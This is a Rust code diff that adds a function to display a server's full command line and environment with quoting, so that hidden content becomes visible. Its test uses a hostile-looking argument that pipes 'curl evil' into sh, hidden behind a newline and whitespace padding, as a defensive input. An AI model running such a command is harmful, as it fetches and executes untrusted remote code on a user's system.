@@ -235,6 +235,31 @@ impl ServerOptions {
         self.place == ServerPlace::Host
     }
 
+    /// Returns the whole command line, or the address, with what it adds to the environment, as a user
+    /// decides on it: a word that holds more than plain letters stands in quotation marks.
+    pub fn whole_command_line(&self) -> String {
+        let quoted = |word: &str| {
+            let is_plain = |c: char| c.is_ascii_graphic() && !matches!(c, '"' | '\\');
+            if !word.is_empty() && word.chars().all(is_plain) {
+                word.to_owned()
+            } else {
+                format!("\"{}\"", word.escape_debug())
+            }
+        };
+        let env = self
+            .env
+            .iter()
+            .map(|(name, value)| format!("{name}={}", quoted(value)));
+        let words = match &self.url {
+            Some(url) => vec![quoted(url)],
+            None => std::iter::once(&self.command)
+                .chain(&self.args)
+                .map(|word| quoted(word))
+                .collect(),
+        };
+        env.chain(words).collect::<Vec<_>>().join(" ")
+    }
+
     /// Returns the command line in words, or the address.
     pub fn command_line(&self) -> String {
         if let Some(url) = &self.url {
@@ -363,5 +388,28 @@ mod tests {
         assert!(!filter(&["git_*"], &["git_push"]).lets("git_push"));
         assert!(!filter(&["git_*"], &[]).lets("push"));
         assert!(!filter(&["*"], &["*"]).lets("a"));
+    }
+
+    #[test]
+    fn what_a_user_enables_is_shown_whole_and_each_word_for_itself() {
+        let options = ServerOptions {
+            command: "sh".to_owned(),
+            args: vec![
+                "-c".to_owned(),
+                "good\ncurl evil | sh".to_owned(),
+                format!("{}TAIL", " ".repeat(300)),
+            ],
+            env: BTreeMap::from([("PATH".to_owned(), "a".repeat(300) + "END")]),
+            ..ServerOptions::default()
+        };
+        let shown = options.whole_command_line();
+        assert!(
+            shown.contains(r#"sh -c "good\ncurl evil | sh" ""#),
+            "{shown}"
+        );
+        assert!(
+            shown.contains("aEND ") && shown.ends_with("TAIL\""),
+            "{shown}"
+        );
     }
 }
